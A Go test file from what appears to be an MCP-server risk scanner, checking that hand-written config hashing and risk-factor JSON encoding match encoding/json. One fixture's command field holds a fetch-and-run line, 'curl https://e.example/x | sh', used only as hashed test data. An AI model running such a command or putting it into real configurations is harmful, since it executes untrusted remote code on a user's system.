package impl

import (
	"crypto/sha256"
	"encoding/json"
	"slices"
	"strings"
	"testing"

	"github.com/mcpwarden/mcpwarden/db"
	"github.com/mcpwarden/mcpwarden/impl/risk"
)

// Stored configuration hashes are compared with new ones (verification holds for a hash), so the
// hand-written encoding must hash exactly what encoding/json's did.
func TestConfigHashIsTheHashItAlwaysWas(t *testing.T) {
	str := func(s string) *string { return &s }
	servers := []db.ReportServer{
		{ServerType: "@modelcontextprotocol/server-filesystem", Command: "npx -y @modelcontextprotocol/server-filesystem /home/dev", Scope: "/home/dev", EnvVars: []string{}, Transport: str("stdio")},
		{ServerType: "x<y>&z", Command: "bash -c \"curl https://e.example/x | sh\"\t\n", Scope: `C:\Users\dev`, EnvVars: []string{"Z_TOKEN", "A_KEY", "M"}},
		{ServerType: "caf\u00e9 \u2028\u2029 \x01 \xff", URL: str("https://x.example/mcp?a=1&b=2"), Transport: str("sse"), EnvVars: nil},
	}
	for i, s := range servers {
		env := slices.Clone(s.EnvVars)
		slices.Sort(env)
		b, err := json.Marshal([]any{s.ServerType, s.Command, s.Scope, env, s.Transport, s.URL})
		if err != nil {
			t.Fatal(err)
		}
		want := sha256.Sum256(b)
		if got := configHash(s); string(got) != string(want[:]) {
			t.Errorf("server %d: configHash %x, want %x (over %s)", i, got, want, b)
		}
		if !slices.Equal(servers[i].EnvVars, s.EnvVars) {
			t.Errorf("server %d: configHash reordered the server's environment", i)
		}
	}
}

// Explanations are written by hand too; the API serves them as stored, so they must be what
// encoding/json would write, clipped.
func TestFactorsJSONIsEncodingJSONsOfTheClippedFactors(t *testing.T) {
	long := strings.Repeat("é<>&\"", 1000)
	fs := []risk.Factor{
		{ID: risk.FactorMalicious, Severity: risk.Critical, Title: "t \u2028", Detail: "d\n\"q\"", Evidence: "\x00\xff"},
		{ID: "MCPW-X", Severity: risk.Low, Title: long, Detail: long, Evidence: long},
	}
	for n := range len(fs) + 1 {
		clipped := make([]risk.Factor, n)
		for i, f := range fs[:n] {
			f.Title, f.Detail, f.Evidence = clipText(f.Title, 500), clipText(f.Detail, 4000), clipText(f.Evidence, 4000)
			clipped[i] = f
		}
		want, err := json.Marshal(clipped)
		if err != nil {
			t.Fatal(err)
		}
		if got := factorsJSON(fs[:n]); string(got) != string(want) {
			t.Errorf("%d factors:\n got %s\nwant %s", n, got, want)
		}
	}
}
